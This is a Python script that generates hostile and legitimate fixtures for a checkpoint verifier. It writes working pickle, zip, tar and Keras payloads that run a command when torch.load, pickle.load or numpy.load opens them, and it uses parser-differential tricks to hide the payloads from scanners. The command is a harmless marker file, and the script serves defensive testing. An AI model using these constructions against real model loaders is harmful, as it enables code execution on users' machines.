#!/usr/bin/env python3
"""Parser-differential fixtures: hostile files that a checkpoint verifier and the real loader read
differently, plus legitimate files that must pass.

Written with Debian's PyTorch 1.13 (/usr/bin/python3); run from the repository root:
    /usr/bin/python3 scripts/make_attack_fixtures.py

Every payload is harmless: when the real loader runs it, it only runs
`touch /tmp/ckptcheck_attack_fixture_was_executed` (subprocess.Popen gets the same argv as a list).
For every hostile file the script *proves* the bypass by loading it with the real loader in a
subprocess (torch.load with 1.13's default weights_only=False, pickle.load, numpy.load(allow_pickle=
True)) and checking that the marker appears; it then removes the marker. Keras files are only
documented (no Keras here). Output is deterministic: zips are written by hand with DOS time 0, tars
with mtime 0, HDF5 without timestamps.

tests/data/attack/
  frame_magic_hides_stream.pt  a legacy (non-zip) torch.save stream whose first pickle (the magic
                       number) is protocol 4 with a FRAME whose declared length runs past its STOP
                       and covers a complete harmless legacy stream (protocol, sys_info, a state dict,
                       storage keys, raw storage). CPython's unpickler reads the whole frame, so
                       torch.load's next pickle.load starts at the frame end, where a second
                       protocol/sys_info pair and a posix.system pickle sit. A reader that continues
                       right after STOP (pickletools.genops) sees only the harmless stream.
                       (The frame is larger than the 4 KiB a BufferedReader holds, so the unpickler
                       reads it with read(), not peek(); on a filesystem with st_blksize >= 16 KiB
                       CPython would rewind to STOP instead: the script checks and says so.)
  tar_plain.pt         a pre-0.4 torch.save tar (members storages, tensors, pickle); `storages`'
                       first pickle calls posix.system. torch.load on a real file at offset 0 tries
                       tarfile first.
  tar_polyglot.pt      a legacy pickle stream (magic, protocol, sys_info, a harmless state dict,
                       storage keys, raw storage) that is also a valid tar: bytes 0-511 are a v7 tar
                       header whose numeric fields and checksum sit inside a BINBYTES string that the
                       sys_info pickle pushes and pops. torch.load takes the tar path and runs the
                       `storages` member's posix.system; a legacy-stream reader sees only tensors.
  eocd_comment.pt      a torch.save zip with two end-of-central-directory records: the first
                       (whose comment runs exactly to the end of the file) points at a central
                       directory with a harmless data.pkl; the second, inside that comment, points at
                       a central directory whose data.pkl calls posix.system. miniz (and Python's
                       zipfile) take the last EOCD signature.
  eocd_appended.pt     a complete harmless torch.save zip followed by a second central directory +
                       EOCD whose data.pkl calls posix.system (the first EOCD has no comment).
  case_datapkl.pt      a torch.save zip holding archive/data.pkl (harmless) and archive/DATA.PKL
                       (posix.system), central directory ordered so that miniz's case-insensitive
                       binary search (mz_zip_reader_locate_file, flags 0) returns DATA.PKL.
  torchscript_plain.pt a real torch.jit.save of a scripted module (its optional .debug_pkl records
                       dropped, so edits here do not change it): torch.load dispatches it to
                       torch.jit.load (it has archive/constants.pkl). Runs no payload.
  torchscript_eocd.pt  a harmless torch.save zip whose first EOCD's comment hides a second central
                       directory listing the TorchScript archive: torch.load reads the second and
                       dispatches to torch.jit.load.
  getattr_module_init.pt      data.pkl: builtins.getattr(torch.nn.Module, '__init__').__globals__
                       .get('torch').os.system(cmd), every step a getattr/REDUCE.
  getattr_allowed_globals.pt  data.pkl: builtins.getattr(torch.serialization._get_layout (on
                       1.13's weights_only allowlist), '__globals__').get('os').system(cmd).
  getattr_dotted_name.pt      protocol 4 STACK_GLOBAL('torch.serialization', 'os.system'): a
                       dotted name under a torch module that resolves to os.system, no builtins.
  callarg_rebuild_global.pt   torch._tensor._rebuild_from_type_v2(posix.system, torch.Tensor,
                       (cmd,), {}): the rebuild function calls its first argument.
  callarg_rebuild_getattr.pt  _rebuild_from_type_v2 whose func is itself computed by
                       _rebuild_from_type_v2(builtins.getattr, Tensor, (torch.serialization.os,
                       'system'), {}).
  callarg_reconstructor_popen.pt  copyreg._reconstructor(subprocess.Popen, subprocess.Popen,
                       ['touch', marker]): base is not builtins.object, so base.__init__ runs.
  dcp_metadata/        a copy of tests/data/dcp/torch113 whose .metadata pickle first calls
                       posix.system, then is the real Metadata (FileSystemReader.read_metadata is
                       pickle.load).
  keras_deep.h5        Keras 2 model_config: a Lambda layer (marshalled bytecode) nested 25
                       Sequential levels deep. Documented only (no Keras here).
  keras_ourattr.h5     the root attribute ckptcheck_metadata (the tool's own) plus a model_config
                       with a Lambda layer. Documented only.
  hook_EVIL.PT         upper-case extension: a torch.save zip whose data.pkl calls posix.system.
  hook_model.pth.tar   a legacy torch.save stream whose object pickle calls posix.system.
  hook_payload.pkl     a raw protocol-2 pickle calling posix.system.
  plain_system.pt / .bin / .ckpt  a plain protocol-2 pickle (no torch magic) calling posix.system:
                       torch.load's legacy path runs it while reading the "magic number".
  plain_pickle_then_zip.pt  the same pickle followed by a valid torch.save zip: zip readers that
                       find the EOCD see a harmless archive; torch.load checks only the first four
                       bytes for PK\\3\\4 and unpickles.
  plain_object.npy     numpy.save of an object array whose element pickles to posix.system.
  legit_proto{1,2,4,5}.pt, legit_proto{1,2,4,5}_legacy.pt  torch.save of one small state dict with
                       that pickle_protocol, zip and legacy formats. Must pass. Torch 1.13's
                       weights_only unpickler knows only protocol-2 opcodes, so protocols 1/4/5 are
                       proven loadable with torch.load(weights_only=False) after checking (without
                       running them) that they name only allowlisted globals.
  legit_proto0.pt, legit_proto0_legacy.pt  pickle_protocol=0: torch.save writes its tuple
                       persistent ids as PERSID str(tuple), which no torch.load can read back
                       (AssertionError in persistent_load). Listed under "unloadable", not "legit".
  expected.json        {"hostile": {file: {"class": N, "refuse": [verify modes that must exit 1],
                       "names": [substrings the refusal must contain: the called global's name, and
                       none where the refusal may come from the container before any pickle is read],
                       "proof": how it was proven}},
                        "legit": {file: {"tensors": [...], "pass": ["--weights-only"] (verify modes
                       that must exit 0; the default mode also wants optimizer state), "proof": ...}},
                        "unloadable": {file: {"reason": ...}}}
"""
import base64
import hashlib
import io
import json
import marshal
import os
import pickle
import pickletools
import shutil
import struct
import subprocess
import sys
import tarfile
import zipfile
import zlib

import numpy as np
import torch

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from make_pytorch_fixtures import describe  # noqa: E402

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..")
OUT = os.path.join(ROOT, "tests", "data", "attack")
MARKER = "/tmp/ckptcheck_attack_fixture_was_executed"
CMD = "touch " + MARKER
BOTH = ["", "--weights-only"]


# ---- pickle opcodes ---------------------------------------------------------------------------

def GLOBAL(mod, name):
    return b"c" + mod.encode() + b"\n" + name.encode() + b"\n"


def STR(s):
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def PUT(i):
    return b"r" + struct.pack("<I", i)


def GET(i):
    return b"j" + struct.pack("<I", i)


def call(fn_ops, *arg_ops):
    """fn(*args): the callable's ops, a MARK-tuple of the arguments, REDUCE."""
    return fn_ops + b"(" + b"".join(arg_ops) + b"tR"


def system_pickle():
    """A whole protocol-2 pickle: posix.system(CMD)."""
    return b"\x80\x02" + call(GLOBAL("posix", "system"), STR(CMD)) + b"."


def split_pickles(data, start=0, count=None):
    """[(start, end)] of consecutive pickles as pickletools.genops walks them (continuing after STOP)."""
    out = []
    pos = start
    while pos < len(data) and (count is None or len(out) < count):
        end = None
        for op, _, p in pickletools.genops(io.BytesIO(data[pos:])):
            if op.name == "STOP":
                end = pos + p + 1
        out.append((pos, end))
        pos = end
    return out


def genops_globals(pkl):
    """Globals a pickle names (GLOBAL, and STACK_GLOBAL over the two values pushed just before it,
    memo gets included), without running it."""
    names, recent, memo = [], [], {}
    for op, arg, _ in pickletools.genops(pkl):
        if op.name == "GLOBAL":
            names.append(arg.replace(" ", "."))
            recent.append(None)
        elif op.name == "STACK_GLOBAL":
            mod, name = (recent[-2:] + [None, None])[:2] if len(recent) >= 2 else (None, None)
            names.append(f"{mod}.{name}")
            recent.append(None)
        elif op.name == "MEMOIZE":
            memo[len(memo)] = recent[-1] if recent else None
        elif op.name in ("BINPUT", "LONG_BINPUT", "PUT"):
            memo[arg] = recent[-1] if recent else None
        elif op.name in ("BINGET", "LONG_BINGET", "GET"):
            recent.append(memo.get(arg))
        elif op.stack_after:
            recent.append(arg if isinstance(arg, str) else None)
    return names


# ---- zip (torch.save's layout: data descriptors, 64-byte aligned data, zip64 end records) -------

def zip_local(name, data, offset):
    nm = name.encode()
    pad = (-(offset + 30 + len(nm) + 4)) % 64
    extra = b"FB" + struct.pack("<H", pad) + b"Z" * pad
    head = struct.pack("<IHHHHHIIIHH", 0x04034B50, 0, 0x0808, 0, 0, 0, 0, 0, 0, len(nm), len(extra))
    return head + nm + extra + data + struct.pack("<IIII", 0x08074B50, zlib.crc32(data), len(data), len(data))


def zip_central(name, data, offset):
    nm = name.encode()
    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0, 0, 0x0808, 0, 0, 0, zlib.crc32(data), len(data),
                       len(data), len(nm), 0, 0, 0, 0, 0, offset) + nm


def zip_tail(count, cd_size, cd_offset, comment_len=0):
    """zip64 end record + locator + EOCD for a central directory that ends where the tail starts."""
    z64_at = cd_offset + cd_size
    z64 = struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 0x031E, 45, 0, 0, count, count, cd_size, cd_offset)
    loc = struct.pack("<IIQI", 0x07064B50, 0, z64_at, 1)
    eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, cd_size, cd_offset, comment_len)
    return z64 + loc + eocd


class ZipBuilder:
    """Local records appended in order; central directories over any subset of them, in any order."""

    def __init__(self):
        self.buf = bytearray()
        self.at = {}  # key -> (name, data, offset)

    def add(self, key, name, data):
        self.at[key] = (name, data, len(self.buf))
        self.buf += zip_local(name, data, len(self.buf))

    def central(self, keys, comment_len=0):
        cd_offset = len(self.buf)
        cd = b"".join(zip_central(*self.at[k]) for k in keys)
        self.buf += cd + zip_tail(len(keys), len(cd), cd_offset, comment_len)

    def bytes(self):
        return bytes(self.buf)


def zip_records(data):
    """(name, bytes) of a torch.save/jit.save zip, in central-directory order."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [(i.filename, z.read(i)) for i in z.infolist()]


def write_zip(records):
    zb = ZipBuilder()
    for i, (n, d) in enumerate(records):
        zb.add(i, n, d)
    zb.central(list(range(len(records))))
    return zb.bytes()


def with_two_cds(first, second, hide_in_comment):
    """first's records + second's records; CD1 lists first's, CD2 (later in the file) second's.
    hide_in_comment: CD1's EOCD has a comment that covers CD2 and its end records exactly."""
    zb = ZipBuilder()
    for i, (n, d) in enumerate(first):
        zb.add(("a", i), n, d)
    for i, (n, d) in enumerate(second):
        zb.add(("b", i), n, d)
    cd2_keys = [("b", i) for i in range(len(second))]
    cd2_len = sum(46 + len(n.encode()) for n, _ in second) + 56 + 20 + 22
    zb.central([("a", i) for i in range(len(first))], comment_len=cd2_len if hide_in_comment else 0)
    zb.central(cd2_keys)
    return zb.bytes()


# ---- torch helpers ----------------------------------------------------------------------------

class Calls:
    def __init__(self, fn, *args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return (self.fn, self.args)


def torch_save(obj, **kw):
    b = io.BytesIO()
    torch.save(obj, b, **kw)
    return b.getvalue()


def weight():
    return torch.arange(6, dtype=torch.float32).reshape(2, 3) / 4


def state_dict():
    return {"weight": weight(), "bias": torch.tensor([1, -2], dtype=torch.int64)}


PLACEHOLDER = "@@ckptcheck_attack_placeholder@@"


def zip_with_datapkl_value(value_ops):
    """torch.save zip of {'weight': tensor, 'x': <value_ops>}: the placeholder string's BINUNICODE
    in data.pkl is replaced by hand-written ops (memo indices >= 1000 so nothing clashes)."""
    records = zip_records(torch_save({"weight": weight(), "x": PLACEHOLDER}))
    out = []
    for n, d in records:
        if n.endswith("/data.pkl"):
            old = STR(PLACEHOLDER)
            assert d.count(old) == 1
            d = d.replace(old, value_ops)
        out.append((n, d))
    return write_zip(out)


def datapkl(records, suffix="/data.pkl"):
    return next(d for n, d in records if n.endswith(suffix))


# ---- proofs -----------------------------------------------------------------------------------

LOADERS = {
    "torch.load": "import sys, torch\ntorch.load(sys.argv[1])",
    "pickle.load": "import sys, pickle\npickle.load(open(sys.argv[1], 'rb'))",
    "numpy.load": "import sys, numpy\nnumpy.load(sys.argv[1], allow_pickle=True)",
}


def clear_marker():
    if os.path.exists(MARKER):
        os.remove(MARKER)


def runs_payload(loader, path):
    """Loads `path` with the real loader in a child; True when the marker appeared (then removed)."""
    clear_marker()
    subprocess.run([sys.executable, "-W", "ignore", "-c", LOADERS[loader], path], cwd="/tmp",
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=120)
    for _ in range(50):  # Popen's child may outlive the loader by a moment
        if os.path.exists(MARKER):
            break
        subprocess.run(["sleep", "0.1"])
    ran = os.path.exists(MARKER)
    clear_marker()
    return ran


def torch_record(path, name):
    r = torch._C.PyTorchFileReader(path)
    return r.get_record(name), sorted(r.get_all_records())


def child(code, path):
    """Runs a probe in a child (it never loads a payload) and returns its stdout."""
    return subprocess.run([sys.executable, "-W", "ignore", "-c", code, path], cwd="/tmp", check=True,
                          capture_output=True, text=True, timeout=120).stdout.strip()


# ---- fixtures ---------------------------------------------------------------------------------

class _OrdinalStrMeta(type):
    """Makes _OrdinalStr behave as `str` for isinstance/issubclass while calls go to __call__."""

    def __instancecheck__(cls, obj):
        return isinstance(obj, str)

    def __subclasscheck__(cls, sub):
        return issubclass(sub, str)

    def __call__(cls, value="", *args):
        if type(value) is int and value > 1 << 16 and not args:
            return cls.keys.setdefault(value, str(len(cls.keys)))
        return str(value, *args)


def legacy_stream(obj, **kw):
    """torch.save's legacy (non-zip) format with storage keys "0", "1", ... instead of the memory
    addresses (str(storage._cdata)) torch 1.13 writes, so the output is deterministic: `str` inside
    torch.serialization is shadowed while saving."""
    torch.serialization.str = _OrdinalStrMeta("_OrdinalStr", (), {"keys": {}})
    try:
        return torch_save(obj, _use_new_zipfile_serialization=False, **kw)
    finally:
        del torch.serialization.str


def make_frame():
    harmless = legacy_stream({"weight": torch.arange(3072, dtype=torch.float32) / 7})
    (m0, m1), = split_pickles(harmless, 0, 1)
    magic_body = harmless[m0 + 2:m1]  # LONG1 magic, STOP (without PROTO 2)
    frame_data = magic_body + harmless[m1:]
    assert len(frame_data) > 3 * 4096
    (p0, p1), (s0, s1) = split_pickles(harmless, m1, 2)
    evil = harmless[p0:p1] + harmless[s0:s1] + system_pickle() + b"\x80\x02]."
    data = b"\x80\x04\x95" + struct.pack("<Q", len(frame_data)) + frame_data + evil
    # A reader that continues after STOP sees the harmless stream and its storage, then the rest.
    naive = split_pickles(data, 0, 5)
    assert not any("system" in g for a, b in naive for g in genops_globals(data[a:b]))
    return data


def tar_member(name, data):
    info = tarfile.TarInfo(name)
    info.size, info.mtime, info.mode = len(data), 0, 0o644
    info.uname = info.gname = ""
    return info.tobuf(format=tarfile.USTAR_FORMAT) + data + b"\0" * ((-len(data)) % 512)


def tar_members():
    return (tar_member("storages", system_pickle() + b"\x80\x02]."),
            tar_member("tensors", b"\x80\x02K\x00."),
            tar_member("pickle", b"\x80\x02}."))


def make_tar_plain():
    data = b"".join(tar_members()) + b"\0" * 1024
    with tarfile.open(fileobj=io.BytesIO(data), mode="r:") as t:
        assert t.getnames() == ["storages", "tensors", "pickle"]
    return data


def make_tar_polyglot():
    harmless = legacy_stream(state_dict())
    (m0, m1), (p0, p1), (s0, s1) = split_pickles(harmless, 0, 3)
    assert harmless[s0:s0 + 3] == b"\x80\x02}"  # sys_info: PROTO 2, EMPTY_DICT, ...
    prefix = harmless[m0:m1] + harmless[p0:p1]  # magic and protocol pickles: 20 bytes
    payload_at = len(prefix) + 3 + 5           # after PROTO, EMPTY_DICT, 'X' and its 4-byte length
    payload = bytearray(400)                   # ASCII; covers tar header bytes [28, 428)
    rest = harmless[s1:]                       # object pickle, storage keys, raw storages

    def body():
        # sys_info gets one more item, {<the tar header's fields>: ''}; torch ignores sys_info.
        return (prefix + harmless[s0:s0 + 3] + STR(payload.decode("ascii")) + STR("") + b"s" +
                harmless[s0 + 3:s1] + rest)

    def field(off, value):
        payload[off - payload_at:off - payload_at + len(value)] = value

    member_size = len(body()) - 512
    assert member_size > 0
    field(100, b"0000644\0")
    field(108, b"0000000\0")
    field(116, b"0000000\0")
    field(124, b"%011o\0" % member_size)
    field(136, b"%011o\0" % 0)
    field(148, b" " * 8)
    field(156, b"0")
    field(148, b"%06o\0 " % sum(body()[:512]))
    stream = body()
    data = stream + b"\0" * ((-len(stream)) % 512) + b"".join(tar_members()) + b"\0" * 1024
    with tarfile.open(fileobj=io.BytesIO(data), mode="r:") as t:
        assert t.getnames()[1:] == ["storages", "tensors", "pickle"], t.getnames()
    # As a legacy stream: the same five pickles and storage as the harmless file.
    assert torch.load(io.BytesIO(data), weights_only=True)["weight"].equal(state_dict()["weight"])
    return data


def evil_and_harmless_records():
    harmless = zip_records(torch_save({"weight": weight(), "x": 0}))
    evil = zip_records(torch_save({"weight": weight(), "x": Calls(os.system, CMD)}))
    return harmless, evil


def make_eocd(hide_in_comment):
    harmless, evil = evil_and_harmless_records()
    # CD2 names the evil data.pkl and the harmless file's other records (same bytes, own copies).
    return with_two_cds(harmless, evil, hide_in_comment)


def make_case(out_path):
    harmless, evil = evil_and_harmless_records()
    bad = datapkl(evil)
    good = datapkl(harmless)
    others = [(n, d) for n, d in harmless if not n.endswith("/data.pkl")]
    # Try each central-directory position of DATA.PKL; keep the first where torch reads it.
    for pos in range(len(others) + 2):
        recs = [("archive/data.pkl", good)] + others
        recs.insert(pos, ("archive/DATA.PKL", bad))
        data = write_zip(recs)
        with open(out_path, "wb") as f:
            f.write(data)
        got, _ = torch_record(out_path, "data.pkl")
        with zipfile.ZipFile(out_path) as z:
            exact = z.read("archive/data.pkl")
        if got == bad and exact == good:
            return data
    raise RuntimeError("no central-directory order makes miniz pick archive/DATA.PKL")


class Tiny(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.scale = torch.nn.Parameter(torch.arange(4, dtype=torch.float32))

    def forward(self, x):
        return x * self.scale


def torchscript_bytes():
    b = io.BytesIO()
    torch.jit.save(torch.jit.script(Tiny()), b)
    return b.getvalue()


def getattr_chain(target_ops, *attrs):
    ops = target_ops
    for a in attrs:
        ops = call(GLOBAL("builtins", "getattr"), ops, STR(a))
    return ops


def make_getattr_module_init():
    g = GLOBAL("builtins", "getattr")
    globs = getattr_chain(GLOBAL("torch.nn", "Module"), "__init__", "__globals__")
    torch_mod = call(call(g, globs, STR("get")), STR("torch"))
    return zip_with_datapkl_value(call(getattr_chain(torch_mod, "os", "system"), STR(CMD)))


def make_getattr_allowed_globals():
    g = GLOBAL("builtins", "getattr")
    globs = getattr_chain(GLOBAL("torch.serialization", "_get_layout"), "__globals__")
    os_mod = call(call(g, globs, STR("get")), STR("os"))
    return zip_with_datapkl_value(call(getattr_chain(os_mod, "system"), STR(CMD)))


def make_getattr_dotted():
    pkl = (b"\x80\x04" + STR("torch.serialization") + STR("os.system") + b"\x93" + STR(CMD) + b"\x85R.")
    return write_zip([("archive/data.pkl", pkl), ("archive/version", b"3\n")])


REBUILD = GLOBAL("torch._tensor", "_rebuild_from_type_v2")
TENSOR = GLOBAL("torch", "Tensor")


def make_callarg_global():
    return zip_with_datapkl_value(call(REBUILD, GLOBAL("posix", "system"), TENSOR, b"(" + STR(CMD) + b"t", b"}"))


def make_callarg_getattr():
    system = call(REBUILD, GLOBAL("builtins", "getattr"), TENSOR,
                  b"(" + GLOBAL("torch.serialization", "os") + STR("system") + b"t", b"}")
    return zip_with_datapkl_value(call(REBUILD, system, TENSOR, b"(" + STR(CMD) + b"t", b"}"))


def make_callarg_reconstructor():
    popen = GLOBAL("subprocess", "Popen")
    argv = b"(" + STR("touch") + STR(MARKER) + b"l"
    return zip_with_datapkl_value(call(GLOBAL("copyreg", "_reconstructor"), popen, popen, argv))


def make_dcp_metadata(out_dir):
    src = os.path.join(ROOT, "tests", "data", "dcp", "torch113")
    if os.path.exists(out_dir):
        shutil.rmtree(out_dir)
    shutil.copytree(src, out_dir)
    with open(os.path.join(src, ".metadata"), "rb") as f:
        meta = f.read()
    assert meta[:1] == b"\x80"
    evil = meta[:2] + call(GLOBAL("posix", "system"), STR(CMD)) + b"0" + meta[2:]
    with open(os.path.join(out_dir, ".metadata"), "wb") as f:
        f.write(evil)


def keras_layer(class_name, **config):
    return {"class_name": class_name, "config": config}


def keras_lambda():
    # Compiled from text (not this file's own lambda) so the marshalled line numbers never change.
    fn = eval(compile(f"lambda x: __import__('os').system({CMD!r}) or x", "<keras_lambda>", "eval"))
    code = base64.encodebytes(marshal.dumps(fn.__code__))
    return keras_layer("Lambda", name="hidden_lambda", trainable=True, dtype="float32",
                       function=[code.decode("ascii"), None, None], function_type="lambda", module="__main__",
                       output_shape=None, output_shape_type="raw", output_shape_module=None, arguments={})


def write_keras(path, model_config, extra_attrs=None):
    import h5py
    if os.path.exists(path):
        os.remove(path)
    with h5py.File(path, "w", track_order=False) as f:
        f.attrs["backend"] = "tensorflow"
        f.attrs["keras_version"] = "2.12.0"
        for k, v in (extra_attrs or {}).items():
            f.attrs[k] = v
        f.attrs["model_config"] = json.dumps(model_config).encode("utf8")
        weights = f.create_group("model_weights")
        weights.attrs["layer_names"] = [b"dense"]
        dense = weights.create_group("dense")
        dense.attrs["weight_names"] = [b"dense/kernel:0"]
        dense.create_dataset("dense/kernel:0", data=np.arange(6, dtype=np.float32).reshape(3, 2), track_times=False)


def make_keras_deep(path):
    inner = keras_lambda()
    for depth in range(25):
        inner = keras_layer("Sequential", name=f"seq_{depth}", layers=[inner])
    write_keras(path, inner)


def make_keras_ourattr(path):
    config = keras_layer("Sequential", name="sequential", layers=[keras_lambda()])
    write_keras(path, config, {"ckptcheck_metadata": np.bytes_(b'{"step": 3, "shard_index": 0, "writer": "ckptcheck"}')})


def make_npy():
    b = io.BytesIO()
    np.save(b, np.array([Calls(os.system, CMD)], dtype=object), allow_pickle=True)
    return b.getvalue()


# ---- main -------------------------------------------------------------------------------------

def main():
    os.makedirs(OUT, exist_ok=True)
    clear_marker()
    hostile, legit, unloadable = {}, {}, {}

    def put(name, data):
        path = os.path.join(OUT, name)
        with open(path, "wb") as f:
            f.write(data)
        assert len(data) < 20 * 1024, (name, len(data))
        return path

    def prove(name, cls, loader, names, refuse=BOTH, note=""):
        path = os.path.join(OUT, name)
        ran = runs_payload(loader, path)
        if not ran:
            raise RuntimeError(f"{name}: {loader} did not run the payload")
        hostile[name] = {"class": cls, "refuse": refuse, "names": names,
                         "proof": f"{loader} ran the payload" + (f"; {note}" if note else "")}

    # 1. FRAME.
    put("frame_magic_hides_stream.pt", make_frame())
    blk = os.stat(OUT).st_blksize
    prove("frame_magic_hides_stream.pt", 1, "torch.load", [],
          note=f"st_blksize {blk}: the frame is read with read(), so the next pickle starts at the frame end")

    # 2. tar.
    put("tar_plain.pt", make_tar_plain())
    prove("tar_plain.pt", 2, "torch.load", [])
    put("tar_polyglot.pt", make_tar_polyglot())
    prove("tar_polyglot.pt", 2, "torch.load", [],
          note="torch.load(BytesIO) of the same bytes (legacy path) returns the harmless tensors")

    # 3. two end records.
    for name, hide in (("eocd_comment.pt", True), ("eocd_appended.pt", False)):
        path = put(name, make_eocd(hide))
        got, _ = torch_record(path, "data.pkl")
        assert "system" in " ".join(genops_globals(got)), name
        prove(name, 3, "torch.load", [], note="PyTorchFileReader.get_record('data.pkl') is the posix.system one")

    # 4. case-insensitive lookup.
    path = os.path.join(OUT, "case_datapkl.pt")
    make_case(path)
    prove("case_datapkl.pt", 4, "torch.load", [],
          note="PyTorchFileReader.get_record('data.pkl') returns archive/DATA.PKL; zipfile's exact name is harmless")

    # 5. TorchScript.
    ts = torchscript_bytes()
    # Without the .debug_pkl records (source line numbers of this file): torch.jit.load needs none.
    ts_records = [(n, d) for n, d in zip_records(ts) if not n.endswith(".debug_pkl")]
    assert any(n.endswith("/constants.pkl") for n, _ in ts_records)
    probe = ("import sys, torch\nm = torch.load(sys.argv[1])\n"
             "print(isinstance(m, torch.jit.ScriptModule))")
    for name, data in (("torchscript_plain.pt", write_zip(ts_records)),
                       ("torchscript_eocd.pt", with_two_cds(evil_and_harmless_records()[0], ts_records, True))):
        path = put(name, data)
        _, records = torch_record(path, "version")
        assert "constants.pkl" in records, (name, records)
        if child(probe, path) != "True":
            raise RuntimeError(f"{name}: torch.load did not dispatch to torch.jit.load")
        hostile[name] = {"class": 5, "refuse": ["--weights-only"], "names": [],
                         "proof": "torch.load dispatched to torch.jit.load (returned a ScriptModule); no payload"}

    # 6. getattr and call arguments.
    for name, make, names in (("getattr_module_init.pt", make_getattr_module_init, ["getattr"]),
                              ("getattr_allowed_globals.pt", make_getattr_allowed_globals, ["getattr"]),
                              ("getattr_dotted_name.pt", make_getattr_dotted, ["system"]),
                              ("callarg_rebuild_global.pt", make_callarg_global, []),
                              ("callarg_rebuild_getattr.pt", make_callarg_getattr, []),
                              ("callarg_reconstructor_popen.pt", make_callarg_reconstructor, ["Popen"])):
        put(name, make())
        prove(name, 6, "torch.load", names)
    dcp = os.path.join(OUT, "dcp_metadata")
    make_dcp_metadata(dcp)
    if not runs_payload("pickle.load", os.path.join(dcp, ".metadata")):
        raise RuntimeError("dcp_metadata/.metadata: pickle.load did not run the payload")
    hostile["dcp_metadata"] = {"class": 6, "refuse": BOTH, "names": ["system"],
                               "proof": "pickle.load(.metadata) (FileSystemReader.read_metadata) ran the payload"}

    # 7. Keras (documented: keras.models.load_model would unmarshal and run the Lambda).
    make_keras_deep(os.path.join(OUT, "keras_deep.h5"))
    make_keras_ourattr(os.path.join(OUT, "keras_ourattr.h5"))
    for name, names in (("keras_deep.h5", []), ("keras_ourattr.h5", ["Lambda"])):
        hostile[name] = {"class": 7, "refuse": BOTH, "names": names,
                         "proof": "documented only: keras.models.load_model unmarshals and runs a Lambda's bytecode"}

    # 9. pre-commit hook inputs.
    put("hook_EVIL.PT", zip_with_datapkl_value(call(GLOBAL("posix", "system"), STR(CMD))))
    prove("hook_EVIL.PT", 9, "torch.load", ["system"])
    put("hook_model.pth.tar", legacy_stream({"weight": weight(), "x": Calls(os.system, CMD)}))
    prove("hook_model.pth.tar", 9, "torch.load", ["system"])
    put("hook_payload.pkl", system_pickle())
    prove("hook_payload.pkl", 9, "pickle.load", ["system"])

    # 10. plain pickles and legitimate files.
    for ext in ("pt", "bin", "ckpt"):
        put(f"plain_system.{ext}", system_pickle())
        prove(f"plain_system.{ext}", 10, "torch.load", ["system"])
    put("plain_pickle_then_zip.pt", system_pickle() + torch_save(state_dict()))
    with zipfile.ZipFile(os.path.join(OUT, "plain_pickle_then_zip.pt")) as z:
        assert z.testzip() is None and "archive/data.pkl" in z.namelist()
    prove("plain_pickle_then_zip.pt", 10, "torch.load", ["system"],
          note="zipfile opens the appended archive (harmless data.pkl)")
    put("plain_object.npy", make_npy())
    prove("plain_object.npy", 10, "numpy.load", ["system"])

    allowed = set(torch._weights_only_unpickler._get_allowed_globals())
    allowed |= {"torch._utils._rebuild_tensor_v2", "collections.OrderedDict"}
    sd = state_dict()
    for proto in (0, 1, 2, 4, 5):
        for legacy in (False, True):
            name = f"legit_proto{proto}" + ("_legacy" if legacy else "") + ".pt"
            data = (legacy_stream(sd, pickle_protocol=proto) if legacy else
                    torch_save(sd, pickle_protocol=proto))
            path = put(name, data)
            pkls = ([datapkl(zip_records(data))] if not legacy else
                    [data[a:b] for a, b in split_pickles(data, 0, 5)])
            foreign = [g for p in pkls for g in genops_globals(p) if g not in allowed]
            assert not foreign, (name, foreign)
            try:
                loaded = torch.load(path, weights_only=proto == 2)  # only its own files; globals checked above
            except Exception as e:  # noqa: BLE001
                unloadable[name] = {"reason": f"torch 1.13 torch.load fails: {type(e).__name__} {e}".strip()[:300]}
                continue
            assert all(loaded[k].equal(v) for k, v in sd.items())
            legit[name] = {"tensors": describe(loaded), "pass": ["--weights-only"],
                           "proof": "torch.load(weights_only=True)" if proto == 2 else
                           "torch.load(weights_only=False) after checking every global is allowlisted"}

    assert not os.path.exists(MARKER)
    with open(os.path.join(OUT, "expected.json"), "w") as f:
        json.dump({"hostile": hostile, "legit": legit, "unloadable": unloadable}, f, indent=1, sort_keys=True)
    for name in sorted(hostile):
        print(f"hostile {name}: {hostile[name]['proof']}")
    for name in sorted(legit):
        print(f"legit   {name}")
    for name in sorted(unloadable):
        print(f"unloadable {name}: {unloadable[name]['reason']}")


if __name__ == "__main__":
    main()
